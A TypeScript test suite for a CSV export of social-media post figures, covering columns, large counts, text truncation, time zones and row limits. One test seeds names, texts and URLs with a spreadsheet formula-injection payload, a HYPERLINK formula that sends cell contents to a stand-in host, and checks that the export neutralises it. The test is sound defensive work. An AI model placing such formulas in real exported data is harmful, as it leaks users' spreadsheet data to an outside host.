import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';

import * as fc from 'fast-check';

import { onOneLine } from '#reach/csv-cell.ts';
import { exportFigures, figuresAsCsv } from '#reach/export-figures.ts';
import { figuresColumns } from '#reach/figures-columns.ts';
import { dueAtOf, readingAges } from '#reach/reading-ages.ts';

import { csvRecords, parseCsv } from '../support/csv-parser.ts';
import { publishedDesk } from '../support/published.ts';
import { openTestStore, type TestStore } from '../support/store.ts';
import { onServer } from '../support/test-server.ts';

type Where = Parameters<typeof exportFigures>[1];
type Options = Parameters<typeof exportFigures>[2];

const everything = { deskId: null, from: null, to: null } as const;
const at = new Date('2026-11-02T08:00:00.000Z');

async function fileOf({ db }: TestStore, where: Partial<Where> = {}, options: Options = {}): Promise<string> {
  let file = '';
  for await (const line of exportFigures(db, { ...everything, ...where }, options)) file += line;
  return file;
}

async function exported(
  store: TestStore,
  where?: Partial<Where>,
): Promise<readonly Readonly<Record<string, string>>[]> {
  return csvRecords(await fileOf(store, where));
}

function hour(hours: number): Date {
  return new Date(at.getTime() + hours * 3_600_000);
}

function said(value: bigint | null): string {
  return value === null ? '' : value.toString();
}

/** As docs/figures.md tells a program to do it. */
function textOf(cell: string | undefined): string | undefined {
  return cell?.replaceAll(/(^|[,;])'/g, '$1');
}

for (const page of ['figures.md', 'fr/figures.md', 'de/figures.md']) {
  test(`docs/${page} documents each column, in the order of the file, and no other`, async () => {
    const text = await readFile(join(import.meta.dirname, '../../docs', page), 'utf8');
    const rows = text.slice(text.indexOf('| `desk`')).split('\n\n')[0] ?? '';
    assert.deepEqual(
      [...rows.matchAll(/^\| `(\w+)` +\| \S/gm)].map(([, name]) => name),
      figuresColumns,
    );
  });
}

test('a file with nothing in it has the names of the columns, behind the mark that spreadsheets look for', async () => {
  await using store = await openTestStore();
  assert.equal(await fileOf(store), `\uFEFF${figuresColumns.join(',')}\r\n`);
  assert.equal(await fileOf(store, {}, { separator: ';' }), `\uFEFF${figuresColumns.join(';')}\r\n`);
});

test('a row says all that is known of a delivery at an age', async () => {
  await using store = await openTestStore();
  const desk = await publishedDesk(store);
  const id = await desk.publish({
    text: 'For every account',
    ownText: '  For this one,\n\tin "two" lines  ',
    publishedAt: at,
    url: 'https://social.example/@valmont/1',
    figures: { followers: 1200n, boosters: 3, boosterFollowers: 4096n, boostersHidden: 1, boostersAreAll: false },
    readings: [
      { age: 'h72', isLate: true, likes: 7n, shares: 3n, quotes: 1n, replies: 4n, ownReplies: 2n, unanswered: 0n },
      { age: 'h24', likes: 5n, readAt: new Date('2026-11-03T08:00:00.007Z') },
    ],
  });
  const shared = {
    desk: 'Valmont',
    draft: '1',
    revision: '1',
    account: 'valmont@social.example',
    network: 'mastodon',
    practice: 'true',
    published_at: '2026-11-02T08:00:00.000Z',
    url: 'https://social.example/@valmont/1',
    text_start: 'For this one, in "two" lines',
    outcome: 'counts',
    views: '',
    followers_at_publication: '1200',
    state: 'sent',
    retracted_at: '',
    fingerprint: 'f1',
    delivery: id,
    relayed: 'false',
    draft_id: (await store.db.draft.findFirstOrThrow()).id,
    account_id: desk.accountId,
    account_order: '1',
    kind: 'post',
    corrected_in_place_at: '',
    asleep: '',
    part: '',
    month: '2026-11',
    left_late: 'false',
    doubted: 'false',
    answered: '',
    answer_seconds: '',
    ...Object.fromEntries(figuresColumns.filter((name) => name.startsWith('original_')).map((name) => [name, ''])),
  };
  const none = {
    interactions: '',
    replies_of_others: '',
    shares: '',
    quotes: '',
    replies: '',
    own_replies: '',
    replies_unanswered: '',
  };
  const noBoosters = { boosters: '', boosters_followers_together: '', boosters_hidden: '', boosters_are_all: '' };
  assert.deepEqual(await exported(store), [
    { ...shared, ...none, ...noBoosters, age: '24h', read_at: '2026-11-03T08:00:00.007Z', late: 'false', likes: '5' },
    {
      ...shared,
      age: '72h',
      read_at: '2026-11-05T08:00:00.000Z',
      late: 'true',
      likes: '7',
      shares: '3',
      quotes: '1',
      replies: '4',
      own_replies: '2',
      interactions: '13',
      replies_of_others: '2',
      replies_unanswered: '0',
      boosters: '3',
      boosters_followers_together: '4096',
      boosters_hidden: '1',
      boosters_are_all: 'false',
    },
  ]);
});

test('every published delivery has a row: not read yet, without figures, being retracted, retracted', async () => {
  await using store = await openTestStore();
  const desk = await publishedDesk(store);
  const ids = [
    await desk.publish({ publishedAt: hour(0) }),
    await desk.publish({ publishedAt: hour(1), figures: null }),
    await desk.publish({ publishedAt: hour(2), state: 'retracting' }),
    await desk.publish({ publishedAt: hour(3), state: 'retracted', retractedAt: hour(30) }),
  ];
  for (const where of [{}, { deskId: desk.deskId }]) {
    const rows = await exported(store, where);
    assert.deepEqual(
      rows.map((row) => row['delivery']),
      ids,
    );
    assert.deepEqual(
      rows.map((row) => [row['age'], row['outcome'], row['likes'], row['late'], row['state']].join()),
      [',,,,sent', ',,,,sent', ',,,,retracting', ',,,,retracted'],
    );
    assert.equal(rows[3]?.['retracted_at'], '2026-11-03T14:00:00.000Z');
  }
  const other = await publishedDesk(store);
  assert.deepEqual(await exported(store, { deskId: other.deskId }), []);
});

test('counts are plain digits however large, kept as they fell, and empty where they are not known', async () => {
  await using store = await openTestStore();
  const desk = await publishedDesk(store);
  await desk.publish({
    figures: { followers: 9_007_199_254_740_993n },
    readings: [
      { age: 'h24', likes: 9_223_372_036_854_775_807n, shares: 12n },
      { age: 'h72', likes: 0n, shares: 9n },
      { age: 'd7', outcome: 'unreadable' },
      { age: 'd14', outcome: 'missing' },
      { age: 'd21', outcome: 'missed', isLate: true },
      { age: 'd28', likes: -5n },
    ],
  });
  const rows = await exported(store);
  assert.deepEqual(
    rows.map((row) => [row['age'], row['outcome'], row['likes'], row['shares']].join()),
    [
      '24h,counts,9223372036854775807,12',
      '72h,counts,0,9',
      '7d,unreadable,,',
      '14d,missing,,',
      '21d,missed,,',
      '28d,counts,-5,',
    ],
  );
  for (const row of rows) assert.equal(row['followers_at_publication'], '9007199254740993');
});

test('texts of people cannot begin a formula, in any column that holds one', async () => {
  await using store = await openTestStore();
  const formula = '=HYPERLINK("http://evil.example?"&A1;"Go, ""go""")';
  const desk = await publishedDesk(store, { name: formula, handle: `@${formula}` });
  await desk.publish({ text: `${formula}\n@SUM(1)\r\n+1\t-1`, url: formula });
  await desk.publish({ text: '-5 °C', publishedAt: new Date(at.getTime() + 1) });
  for (const separator of [',', ';'] as const) {
    const file = await fileOf(store, {}, { separator });
    const [row] = csvRecords(file, separator);
    for (const name of ['desk', 'account', 'url']) assert.equal(row?.[name], `'${formula}`);
    assert.equal(textOf(row?.['text_start']), `${formula} @SUM(1) +1 -1`);
    for (const line of parseCsv(file.slice(1), separator)) {
      for (const cell of line) assert.doesNotMatch(cell, /^[\s"]*[=+\-@]/);
    }
  }
});

test('the beginning of a text is cut between characters as people count them', async () => {
  await using store = await openTestStore();
  const desk = await publishedDesk(store);
  const family = '👩‍👩‍👧';
  await desk.publish({ text: `${'é'.repeat(79)}${family}${family}` });
  await desk.publish({ text: `${'\n'.repeat(900)}${'a'.repeat(79)} b`, publishedAt: hour(1) });
  const starts = (await exported(store)).map((row) => row['text_start']);
  assert.deepEqual(starts, [`${'é'.repeat(79)}${family}`, 'a'.repeat(79)]);
});

test('whatever is in the tables comes back from the file', async () => {
  const count = fc.option(fc.bigInt({ min: 0n, max: 2n ** 63n - 1n }));
  const text = fc.string({
    unit: fc.constantFrom(...Array.from('=+-@\t\r\n"\',; aé1＝😀')),
    minLength: 1,
    maxLength: 60,
  });
  const reading = fc.record({
    outcome: fc.constantFrom('counts', 'missing', 'unreadable', 'missed'),
    isLate: fc.boolean(),
    likes: count,
    shares: count,
    quotes: count,
    replies: count,
    ownReplies: count,
    unanswered: count,
    views: count,
  });
  const readings = fc.dictionary(fc.constantFrom(...readingAges), reading);
  const post = fc.record({ text, url: text, followers: count, readings });
  await fc.assert(
    fc.asyncProperty(text, fc.array(post, { maxLength: 5 }), async (name, posts) => {
      await using store = await openTestStore();
      const desk = await publishedDesk(store, { name });
      const expected: string[] = [];
      for (const [index, { readings: read, followers, ...texts }] of posts.entries()) {
        const publishedAt = new Date(at.getTime() + index * 1000);
        const inOrder = readingAges.flatMap((age) => (read[age] === undefined ? [] : [{ age, ...read[age] }]));
        await desk.publish({ ...texts, publishedAt, figures: { followers }, readings: inOrder });
        const left = [onOneLine(name), onOneLine(texts.url), onOneLine(texts.text), said(followers)];
        const counts = inOrder.map(({ age, outcome, isLate, ...c }) => [
          dueAtOf(publishedAt, age).toISOString(),
          outcome,
          String(isLate),
          ...[c.likes, c.shares, c.quotes, c.replies, c.ownReplies, c.unanswered, c.views].map(said),
        ]);
        const rows = counts.length === 0 ? [Array.from({ length: 10 }, () => '')] : counts;
        expected.push(...rows.map((row) => JSON.stringify([...left, ...row])));
      }
      const names = ['read_at', 'outcome', 'late', 'likes', 'shares', 'quotes', 'replies'];
      const further = ['own_replies', 'replies_unanswered', 'views'];
      const rows = (await exported(store)).map((row) => [
        ...['desk', 'url', 'text_start'].map((column) => textOf(row[column])),
        ...['followers_at_publication', ...names, ...further].map((column) => row[column]),
      ]);
      assert.deepEqual(
        rows.map((row) => JSON.stringify(row)),
        expected,
      );
    }),
    { numRuns: 25 },
  );
});

test('times are in UTC whatever zone the database has', async () => {
  await using store = await openTestStore();
  const alter = (how: string): Promise<unknown> =>
    onServer(store.connection, (client) =>
      client.query(`DO $$ BEGIN EXECUTE format('ALTER DATABASE %I ${how}', current_database()); END $$`),
    );
  const desk = await publishedDesk(store);
  await desk.publish({ publishedAt: at, readings: [{ age: 'h24' }] });
  await store.db.$disconnect();
  await alter('SET timezone = "Asia/Kolkata"');
  try {
    const [row] = await exported(store, { from: at, to: new Date(at.getTime() + 1) });
    assert.deepEqual([row?.['published_at'], row?.['read_at']], [at.toISOString(), '2026-11-03T08:00:00.000Z']);
  } finally {
    await alter('RESET timezone');
  }
});

test('as a string, for the chat: at most so many rows, and said whether there were more', async () => {
  await using store = await openTestStore();
  const desk = await publishedDesk(store);
  for (let index = 0; index < 3; index += 1) await desk.publish();
  const where = { ...everything, deskId: desk.deskId };
  const whole = await fileOf(store);
  assert.deepEqual(await figuresAsCsv(store.db, where, 3), { csv: whole, rows: 3, isCut: false });
  const cut = await figuresAsCsv(store.db, where, 2, ';');
  assert.deepEqual([cut.rows, cut.isCut, csvRecords(cut.csv, ';').length], [2, true, 2]);
});
